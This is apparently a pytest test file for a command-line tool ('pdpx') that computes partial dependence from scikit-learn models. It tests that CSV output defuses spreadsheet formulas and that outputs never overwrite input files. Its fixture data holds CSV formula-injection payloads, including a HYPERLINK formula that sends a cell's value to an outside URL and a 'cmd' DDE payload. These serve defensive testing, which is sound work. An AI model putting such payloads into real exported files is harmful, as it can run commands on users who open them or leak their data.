"""What the command's outputs may be and hold: no command writes over its MODEL or DATA (however the output is named),
a CSV table's cells never begin a spreadsheet formula unless they are numbers, and ``pdpx report`` names the parts
it could not make and exits with status 3."""

from __future__ import annotations

import csv
import io
import json
import os
import pickle

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

pytest.importorskip("sklearn", reason="scikit-learn is not installed")
from sklearn.compose import ColumnTransformer  # noqa: E402
from sklearn.linear_model import LinearRegression  # noqa: E402
from sklearn.pipeline import make_pipeline  # noqa: E402
from sklearn.preprocessing import OneHotEncoder  # noqa: E402

from pdpx import reporting  # noqa: E402
from pdpx.cli import main  # noqa: E402
from pdpx.cli.output import FORMULA_STARTS  # noqa: E402

N = 200
NUM, CAT = "@risk", "=kind"  # column names a spreadsheet would run
LEVELS = ['=HYPERLINK("http://example.com/?x="&A1,"y")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1",
          "-1.5", "plain"]


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    d = tmp_path_factory.mktemp("writes")
    rng = np.random.default_rng(0)
    X = pd.DataFrame({NUM: rng.normal(size=N) - 1.0, CAT: rng.choice(LEVELS, N)})
    y = X[NUM] * 2 + X[CAT].map({v: i - 3.0 for i, v in enumerate(LEVELS)})
    model = make_pipeline(ColumnTransformer([("oh", OneHotEncoder(handle_unknown="ignore"), [CAT])],
                                            remainder="passthrough"), LinearRegression()).fit(X, y)
    with open(d / "model.pkl", "wb") as fh:
        pickle.dump(model, fh)
    X.to_csv(d / "data.csv", index=False)
    return {"dir": d, "X": X, "model": model}


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def error_line(result) -> str:
    lines = [x for x in result.stderr.strip().splitlines() if not x.startswith("pdpx: warning: loading")]
    assert len(lines) == 1 and "Traceback" not in result.stderr, result.stderr
    return lines[0]


def spreadsheet_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def check_cells(text: str, files) -> pd.DataFrame:
    """Every cell of the CSV ``text`` is safe to open, each level is there as quoted text, and the PD equals the
    definition (set the column to the level, call the model's predict, average). Returns the table read back."""
    rows = spreadsheet_cells(text)
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS or is_number(cell), cell
    for level in LEVELS:
        if level[:1] in FORMULA_STARTS and not is_number(level):
            assert '"' + ("'" + level).replace('"', '""') + '"' in text, level
    table = pd.read_csv(io.StringIO(text), dtype={"label_1": str, "x_1": str})
    assert set(table["feature_set"]) == {"'" + CAT}
    X, model = files["X"], files["model"]
    for label, yhat in zip(table["label_1"], table["yhat"]):
        level = label[1:] if label.startswith("'") and label[1:] in LEVELS else label
        np.testing.assert_allclose(yhat, model.predict(X.assign(**{CAT: level})).mean(), rtol=1e-9)
    return table


def test_pd_csv_on_stdout_and_in_a_file_holds_no_formula(files, tmp_path):
    d = files["dir"]
    out = run("pd", "--allow-pickle", d / "model.pkl", d / "data.csv", "--feature", CAT)
    assert out.exit_code == 0, out.stderr
    table = check_cells(out.stdout, files)
    assert sorted(table["label_1"]) == sorted(("'" + v) if v[:1] in "=+@\t" or v == "-2+3" else v for v in LEVELS)
    written = run("pd", "--allow-pickle", d / "model.pkl", d / "data.csv", "--feature", CAT, "-o", tmp_path / "pd.csv")
    assert written.exit_code == 0, written.stderr
    assert (tmp_path / "pd.csv").read_text(encoding="utf-8") == out.stdout


def test_negative_numbers_stay_numbers(files):
    d = files["dir"]
    out = run("pd", "--allow-pickle", d / "model.pkl", d / "data.csv", "--feature", NUM, "--grid-resolution", "5")
    assert out.exit_code == 0, out.stderr
    rows = spreadsheet_cells(out.stdout)
    header = rows[0]
    x = [float(r[header.index("x_1")]) for r in rows[1:]]
    assert min(x) < 0 and all(not r[header.index("x_1")].startswith("'") for r in rows[1:])
    assert ",-" in out.stdout  # written bare, as numbers: -1.5, not "'-1.5"


def test_json_keeps_values_as_they_are(files):
    d = files["dir"]
    out = run("pd", "--allow-pickle", d / "model.pkl", d / "data.csv", "--feature", CAT, "--format", "json")
    assert out.exit_code == 0, out.stderr
    assert sorted(r["label_1"] for r in json.loads(out.stdout)) == sorted(LEVELS)


def _links(d, tmp_path):
    """Names of MODEL and DATA under other names: a relative path, a symbolic and a hard link."""
    os.symlink(d / "data.csv", tmp_path / "data_link.csv")
    os.link(d / "data.csv", tmp_path / "data_hard.csv")
    os.symlink(d / "model.pkl", tmp_path / "model_link.json")
    os.symlink(d / "data.csv", tmp_path / "fig.png")
    os.symlink(d / "model.pkl", tmp_path / "r.html")


@pytest.mark.parametrize("command, output, named", [
    (["pd", "--feature", NUM], "{d}/data.csv", "DATA"),
    (["pd", "--feature", NUM], "{d}/./../{name}/data.csv", "DATA"),
    (["pd", "--feature", NUM], "{t}/data_link.csv", "DATA"),
    (["pd", "--feature", NUM], "{t}/data_hard.csv", "DATA"),
    (["pd", "--feature", NUM], "{t}/model_link.json", "MODEL"),
    (["plot", "--feature", NUM], "{t}/fig.png", "DATA"),
    (["report", "--no-progress"], "{t}/r.html", "MODEL"),
])
def test_an_output_that_is_an_input_is_refused_before_any_work(files, tmp_path, command, output, named):
    d = files["dir"]
    _links(d, tmp_path)
    before = {p: p.read_bytes() for p in (d / "data.csv", d / "model.pkl")}
    path = output.format(d=d, t=tmp_path, name=d.name)
    result = run(command[0], "--allow-pickle", d / "model.pkl", d / "data.csv", *command[1:], "-o", path)
    assert result.exit_code == 1
    line = error_line(result)
    assert line.startswith(f"pdpx: error: -o {path!r} is {named} (") and "never writes over a file it reads" in line
    assert {p: p.read_bytes() for p in before} == before
    assert not any(p.name.endswith(".tmp") or ".tmp." in p.name for p in [*d.iterdir(), *tmp_path.iterdir()])


def test_report_names_the_parts_it_could_not_make_and_exits_3(files, tmp_path, monkeypatch):
    def broken(model, X, feature, *a, **k):
        raise RuntimeError(f"no regions of {feature} today\nsecond line")

    monkeypatch.setattr(reporting, "regions_of", broken)
    monkeypatch.setattr(reporting, "HETEROGENEITY_SHARE", 0.0)
    d = files["dir"]
    out = tmp_path / "r.html"
    result = run("report", "--allow-pickle", d / "model.pkl", d / "data.csv", "-o", out, "--no-progress",
                 "--grid-resolution", "5", "--ice", "10")
    assert result.exit_code == 3, result.stderr
    line = error_line(result)
    assert line.startswith(f"pdpx: error: wrote {str(out)!r} without 2 part(s) that failed")
    for f in (NUM, CAT):
        assert f"the regions of {f} (RuntimeError: no regions of {f} today)" in line
    assert out.exists() and "could not be computed" in out.read_text(encoding="utf-8")


def test_report_refuses_an_extension_it_does_not_write_with_the_pythons_check(files, tmp_path):
    d = files["dir"]
    result = run("report", "--allow-pickle", d / "model.pkl", d / "data.csv", "-o", tmp_path / "r.docx")
    assert result.exit_code == 1
    assert "the report is written as .html, .htm (not .docx)" in error_line(result)
    assert list(tmp_path.iterdir()) == []
